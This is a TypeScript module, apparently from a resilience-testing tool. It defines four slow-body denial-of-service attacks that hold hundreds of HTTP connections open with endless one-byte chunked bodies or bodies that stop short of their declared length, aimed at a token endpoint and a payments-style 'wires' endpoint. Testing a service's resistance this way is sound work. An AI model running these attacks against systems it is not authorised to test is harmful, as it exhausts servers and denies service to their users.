/** Bodies that never end, or that arrive in so many pieces that they cost more than their size suggests. */
import type { Attack } from "../attack.js";
import { head, occupy } from "../client.js";

const FORM = "Content-Type: application/x-www-form-urlencoded";
const JSON_TYPE = "Content-Type: application/json";
const CHUNKED = "Transfer-Encoding: chunked";

/** Returns the bytes of a chunked body, in chunks of one byte, without its end. */
const oneByteChunks = (bytes: number) => "1\r\na\r\n".repeat(bytes);

const bearer = (key: string) => `Authorization: Bearer ${key}`;

export const bodyAttacks: Attack[] = [
  {
    name: "chunks",
    title: "forms in chunks of one byte that do not end, on 200 connections",
    by: "nobody",
    run: (target, signal, count) =>
      occupy(target, signal, count, 200, head("POST /identity/token", FORM, CHUNKED) + oneByteChunks(55_000)),
  },
  {
    name: "chunks-with-key",
    title: "wires in chunks of one byte that do not end, on 60 connections",
    by: "one account",
    run: (target, signal, count) => {
      const start = head("POST /v1/wires", bearer(target.handles[0]!.key), JSON_TYPE, CHUNKED);
      return occupy(target, signal, count, 60, start + oneByteChunks(261_000));
    },
  },
  {
    name: "unfinished-bodies",
    title: "forms of 55 KB that do not end, on 900 connections",
    by: "nobody",
    run: (target, signal, count) =>
      occupy(
        target,
        signal,
        count,
        900,
        head("POST /identity/token", FORM, "Content-Length: 56000") + " ".repeat(55_000),
        { perSecond: 150 },
      ),
  },
  {
    name: "unfinished-bodies-with-key",
    title: "wires of 261 KB that do not end, on 900 connections",
    by: "one account",
    run: (target, signal, count) => {
      const { key } = target.handles[0]!;
      const start = head("POST /v1/wires", bearer(key), JSON_TYPE, "Content-Length: 262000");
      return occupy(target, signal, count, 900, start + " ".repeat(261_000), { perSecond: 150 });
    },
  },
];
